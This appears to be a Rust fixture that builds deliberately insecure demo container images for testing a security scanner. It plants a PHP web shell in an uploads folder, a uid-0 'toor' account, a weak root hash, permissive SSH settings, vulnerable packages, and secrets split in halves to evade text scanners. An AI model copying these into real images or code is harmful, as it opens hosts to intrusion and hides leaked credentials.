//! The images of the demo. What a text scanner would call a leaked key is written in two halves.

use super::{Image, Layer};
use serde_json::{Value, json};
use std::io::Write;

/// MD5-crypt of a very common word.
const WEAK_SHADOW: &str = "root:$1$saltsalt$fwjUw9R2aXH8DabahEwyW.:20000:0:99999:7:::\ndaemon:*:20000:0:99999:7:::\nsshd:*:20000:0:99999:7:::\n";
/// A key made for this demo, which opens nothing.
const KEY: [&str; 3] = [
    "-----BEGIN PRIVATE",
    " KEY-----\nMC4CAQAwBQYDK2VwBCIEILA+sRiFwgNRRVf51ocRGs8zo+QDXTNKDKgFD9EtYnRl\n-----END PRIVATE",
    " KEY-----\n",
];
const WEB_SHELL: &str = "<?php @eval(base64_decode($_POST['cmd'])); system($_GET['c']); ?>\n";

/// All of them, bases first.
pub fn all() -> Vec<Image> {
    let amd64: &[&str] = &["amd64"];
    let both: &[&str] = &["amd64", "arm64"];
    let plain = || json!({"Env": ["PATH=/usr/local/bin:/usr/bin:/bin"], "Cmd": ["/bin/sh"]});
    let nobody = |command: &str| {
        json!({"User": "10001", "Env": ["PATH=/usr/bin:/bin"], "Cmd": [command],
        "Healthcheck": {"Test": ["CMD", "/bin/true"]}, "Labels": {"org.opencontainers.image.source": "https://git.example.com/shop"}})
    };
    let image = |repository, tag, created, config: Value, base, layers| Image {
        repository,
        tag,
        architectures: amd64,
        created,
        config,
        base,
        layers,
    };
    let database = ["DATABASE_PASSWORD=", "kJ8w2hQz91xLm0"].concat();
    let debian = "registry.example.com/base/debian:12.1";
    let alpine = "registry.example.com/base/alpine:3.12";
    vec![
        image("base/debian", "12.1", "2025-07-24T08:00:00Z", plain(), None, vec![debian_base()]),
        image("base/alpine", "3.12", "2022-04-05T08:00:00Z", plain(), None, vec![alpine_base()]),
        image(
            "shop/web",
            "1.0",
            "2026-08-03T10:00:00Z",
            plain(),
            Some(debian),
            vec![debian_base(), nginx(true), web("1.0")],
        ),
        image(
            "shop/web",
            "1.1",
            "2026-11-02T10:00:00Z",
            nobody("/usr/sbin/nginx"),
            Some(debian),
            vec![debian_base(), nginx(false), web("1.1")],
        ),
        image(
            "shop/api",
            "2.3",
            "2026-10-12T09:30:00Z",
            json!({"Env": ["PATH=/usr/bin:/bin", database], "Cmd": ["node", "server.js"]}),
            Some(debian),
            vec![debian_base(), node_app()],
        ),
        image(
            "shop/payments",
            "4.0.2",
            "2026-09-21T14:10:00Z",
            nobody("/usr/bin/java"),
            Some(debian),
            vec![debian_base(), java_app()],
        ),
        image(
            "shop/recommend",
            "0.9",
            "2026-10-30T07:45:00Z",
            plain(),
            Some(debian),
            vec![debian_base(), python_app()],
        ),
        image(
            "infra/bastion",
            "0.9",
            "2026-06-17T16:00:00Z",
            json!({"User": "root", "Cmd": ["/usr/sbin/sshd", "-D"], "ExposedPorts": {"22/tcp": {}}}),
            Some(debian),
            vec![debian_base(), bastion()],
        ),
        image(
            "legacy/reports",
            "7",
            "2022-05-01T12:00:00Z",
            plain(),
            Some(alpine),
            vec![alpine_base(), legacy()],
        ),
        image(
            "team/toolbox",
            "latest",
            "2026-11-10T18:20:00Z",
            plain(),
            Some(debian),
            vec![debian_base(), toolbox(), removed_key()],
        ),
        Image {
            architectures: both,
            ..image("team/gateway", "3.1", "2026-11-18T11:00:00Z", nobody("/gateway"), None, vec![clean()])
        },
        image(
            "team/worker",
            "3.1",
            "2026-11-18T11:05:00Z",
            nobody("/worker"),
            None,
            vec![clean().file("etc/worker.conf", "threads = 4\n")],
        ),
    ]
}

/// `Package:` paragraphs of dpkg's status file.
fn dpkg(packages: &[(&str, &str, &str)]) -> String {
    let mut status = String::new();
    for (name, version, source) in packages {
        let source = if source.is_empty() { String::new() } else { format!("Source: {source}\n") };
        status += &format!(
            "Package: {name}\nStatus: install ok installed\nMaintainer: Debian <debian@example.com>\nArchitecture: amd64\n{source}Version: {version}\nDescription: {name}\n\n"
        );
    }
    status
}

const BASE: &[(&str, &str, &str)] = &[
    ("base-files", "12.4+deb12u1", ""),
    ("bash", "5.2.15-2+b2", "bash (5.2.15-2)"),
    ("coreutils", "9.1-1", ""),
    ("dpkg", "1.21.22", ""),
    ("libc6", "2.36-9", "glibc"),
    ("libc-bin", "2.36-9", "glibc"),
    ("libgnutls30", "3.7.9-2", "gnutls28"),
    ("libpam-modules", "1.5.2-6", "pam"),
    ("libpam-runtime", "1.5.2-6", "pam"),
    ("libssl3", "3.0.9-1", "openssl"),
    ("libsystemd0", "252.6-1", "systemd"),
    ("login", "1:4.13+dfsg1-1+b1", "shadow (1:4.13+dfsg1-1)"),
    ("passwd", "1:4.13+dfsg1-1+b1", "shadow (1:4.13+dfsg1-1)"),
    ("perl-base", "5.36.0-7", "perl"),
    ("tar", "1.34+dfsg-1.2", ""),
    ("util-linux", "2.38.1-5+b1", "util-linux (2.38.1-5)"),
    ("zlib1g", "1:1.2.13.dfsg-1", "zlib"),
];

fn debian_base() -> Layer {
    Layer::new("ADD rootfs.tar.gz /")
        .file("etc/os-release", "ID=debian\nVERSION_ID=\"12\"\nVERSION_CODENAME=bookworm\nPRETTY_NAME=\"Debian GNU/Linux 12 (bookworm)\"\n")
        .file("var/lib/dpkg/status", dpkg(BASE))
        .file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n")
        .file("etc/group", "root:x:0:\ndaemon:x:1:\nshadow:x:42:\n")
        .mode("etc/shadow", 0o640, "root:*:19600:0:99999:7:::\ndaemon:*:19600:0:99999:7:::\n")
        .file("etc/login.defs", "PASS_MAX_DAYS\t99999\nPASS_MIN_DAYS\t0\nENCRYPT_METHOD SHA512\n")
        .file("etc/pam.d/common-password", "password [success=1 default=ignore] pam_unix.so obscure yescrypt\npassword requisite pam_deny.so\npassword required pam_permit.so\n")
        .file("etc/pam.d/passwd", "@include common-password\n")
        .mode("bin/bash", 0o755, "a shell")
        .mode("usr/bin/passwd", 0o4755, "passwd")
        .file("usr/share/dict/words", "load line\n".repeat(20_000))
}

fn alpine_base() -> Layer {
    let mut installed = String::new();
    for (name, version) in [
        ("alpine-baselayout", "3.2.0-r7"),
        ("apk-tools", "2.10.5-r1"),
        ("busybox", "1.31.1-r19"),
        ("libcrypto1.1", "1.1.1g-r0"),
        ("libssl1.1", "1.1.1g-r0"),
        ("musl", "1.1.24-r9"),
        ("zlib", "1.2.11-r3"),
    ] {
        let origin = name.trim_start_matches("libcrypto1.1").trim_start_matches("libssl1.1");
        let origin = if origin.is_empty() { "openssl" } else { origin };
        installed += &format!("P:{name}\nV:{version}\nA:x86_64\nL:MIT\no:{origin}\n\n");
    }
    Layer::new("ADD alpine-minirootfs.tar.gz /")
        .file("etc/os-release", "ID=alpine\nVERSION_ID=3.12.0\nPRETTY_NAME=\"Alpine Linux v3.12\"\n")
        .file("etc/alpine-release", "3.12.0\n")
        .file("lib/apk/db/installed", installed)
        .file("etc/passwd", "root:x:0:0:root:/root:/bin/ash\n")
        .mode("etc/shadow", 0o640, "root:!::0:::::\n")
        .mode("bin/busybox", 0o755, "busybox")
}

fn with_packages(layer: Layer, more: &[(&str, &str, &str)]) -> Layer {
    let mut packages = BASE.to_vec();
    packages.extend_from_slice(more);
    layer.file("var/lib/dpkg/status", dpkg(&packages))
}

fn nginx(old: bool) -> Layer {
    let (nginx, curl) =
        if old { ("1.22.1-9", "7.88.1-10") } else { ("1.22.1-9+deb12u1", "7.88.1-10+deb12u8") };
    let layer = Layer::new("RUN apt-get update && apt-get install -y nginx curl")
        .mode("usr/sbin/nginx", 0o755, "nginx")
        .file("etc/nginx/nginx.conf", "user root;\nevents {}\nhttp {\n  server_tokens on;\n  autoindex on;\n  ssl_protocols TLSv1 TLSv1.2;\n  server { listen 80; root /var/www/html; }\n}\n");
    with_packages(
        layer,
        &[
            ("nginx", nginx, ""),
            ("curl", curl, ""),
            ("libcurl4", curl, "curl"),
            ("libexpat1", "2.5.0-1", "expat"),
            ("libxml2", "2.9.14+dfsg-1.2", ""),
        ],
    )
}

fn web(version: &str) -> Layer {
    let layer = Layer::new("COPY site/ /var/www/html/")
        .file("var/www/html/index.html", format!("<h1>shop {version}</h1>\n"));
    if version == "1.0" {
        layer.file("var/www/html/uploads/x.php", WEB_SHELL).file("etc/nginx/tls.key", KEY.concat())
    } else {
        layer
    }
}

fn node_app() -> Layer {
    let mut layer = Layer::new("COPY app/ /srv/app/").file("srv/app/server.js", "require('express')()\n");
    for (name, version) in [
        ("express", "4.17.1"),
        ("lodash", "4.17.15"),
        ("minimist", "1.2.0"),
        ("axios", "0.21.0"),
        ("jsonwebtoken", "8.5.1"),
        ("ua-parser-js", "0.7.29"),
        ("ws", "7.4.0"),
    ] {
        let about = json!({"name": name, "version": version, "license": "MIT"});
        layer = layer.file(&format!("srv/app/node_modules/{name}/package.json"), about.to_string());
    }
    let token = ["npm_", "x7Kq2mVw9RtYb4LcZp8NsHd3JfGu6QeA1BkX"].concat();
    layer.mode("srv/app/.npmrc", 0o644, format!("//registry.npmjs.org/:_authToken={token}\n"))
}

fn jar(group: &str, artifact: &str, version: &str) -> Vec<u8> {
    let mut zip = zip::ZipWriter::new(std::io::Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default();
    let path = format!("META-INF/maven/{group}/{artifact}/pom.properties");
    let content = format!("groupId={group}\nartifactId={artifact}\nversion={version}\n");
    let written = zip.start_file(path, options).is_ok() && zip.write_all(content.as_bytes()).is_ok();
    assert!(written, "memory takes everything");
    zip.finish().map(std::io::Cursor::into_inner).unwrap_or_default()
}

fn java_app() -> Layer {
    let mut layer = Layer::new("COPY target/payments/ /opt/payments/");
    for (group, artifact, version) in [
        ("org.apache.logging.log4j", "log4j-core", "2.14.1"),
        ("com.fasterxml.jackson.core", "jackson-databind", "2.9.8"),
        ("org.springframework", "spring-core", "5.3.17"),
        ("org.apache.commons", "commons-text", "1.9"),
        ("org.yaml", "snakeyaml", "1.26"),
    ] {
        layer =
            layer.file(&format!("opt/payments/lib/{artifact}-{version}.jar"), jar(group, artifact, version));
    }
    let key = ["aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/", "bPxRfiCYzQv8LmT2pA\n"].concat();
    layer.file("opt/payments/application.properties", key)
}

fn python_app() -> Layer {
    let mut layer = Layer::new("RUN pip install -r requirements.txt");
    for (name, version) in [
        ("Jinja2", "2.10"),
        ("urllib3", "1.24.1"),
        ("requests", "2.19.1"),
        ("Pillow", "8.0.0"),
        ("Django", "3.2.0"),
        ("PyYAML", "5.3"),
        ("ctx", "0.2.6"),
    ] {
        let about = format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nLicense: BSD\n");
        let folder = format!("usr/local/lib/python3.11/site-packages/{name}-{version}.dist-info");
        layer = layer.file(&format!("{folder}/METADATA"), about);
    }
    layer
}

fn bastion() -> Layer {
    let layer = Layer::new("RUN apt-get install -y openssh-server nmap && echo root | chpasswd")
        .mode("etc/shadow", 0o644, WEAK_SHADOW)
        .file("etc/passwd", "root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\nsshd:x:101:65534::/run/sshd:/usr/sbin/nologin\ntoor:x:0:0::/root:/bin/bash\n")
        .file("etc/ssh/sshd_config", "Port 22\nPermitRootLogin yes\nPermitEmptyPasswords yes\nPasswordAuthentication yes\nX11Forwarding yes\nMaxAuthTries 20\n")
        .mode("usr/sbin/sshd", 0o755, "sshd");
    with_packages(
        layer,
        &[
            ("openssh-server", "1:9.2p1-2", "openssh"),
            ("nmap", "7.93+dfsg1-1", ""),
            ("telnetd", "0.17-45", ""),
        ],
    )
}

fn legacy() -> Layer {
    Layer::new("COPY reports /opt/reports")
        .file("opt/reports/Gemfile.lock", "GEM\n  remote: https://rubygems.org/\n  specs:\n    rails (5.2.0)\n    rack (2.0.5)\n    nokogiri (1.8.2)\n\nPLATFORMS\n  ruby\n\nDEPENDENCIES\n  rails\n")
        .file("opt/reports/config/database.yml", ["production:\n  adapter: postgresql\n  username: reports\n  password: ", "T4kx-9vQm2Lp\n"].concat())
}

fn toolbox() -> Layer {
    let layer = Layer::new("RUN apt-get install -y gdb tcpdump netcat-traditional").mode(
        "root/.ssh/id_ed25519",
        0o600,
        KEY.concat(),
    );
    with_packages(
        layer,
        &[
            ("gdb", "13.1-3", ""),
            ("tcpdump", "4.99.3-1", ""),
            ("netcat-traditional", "1.10-47", ""),
            ("git", "1:2.39.2-1.1", ""),
        ],
    )
}

/// Removing a file in a later layer does not take it out of the image.
fn removed_key() -> Layer {
    Layer::new("RUN rm /root/.ssh/id_ed25519").file("root/.ssh/.wh.id_ed25519", "")
}

fn clean() -> Layer {
    Layer::new("COPY gateway /gateway")
        .mode("gateway", 0o755, "a static program")
        .file("etc/passwd", "nobody:x:65534:65534::/:/sbin/nologin\n")
        .file("etc/group", "nobody:x:65534:\n")
}
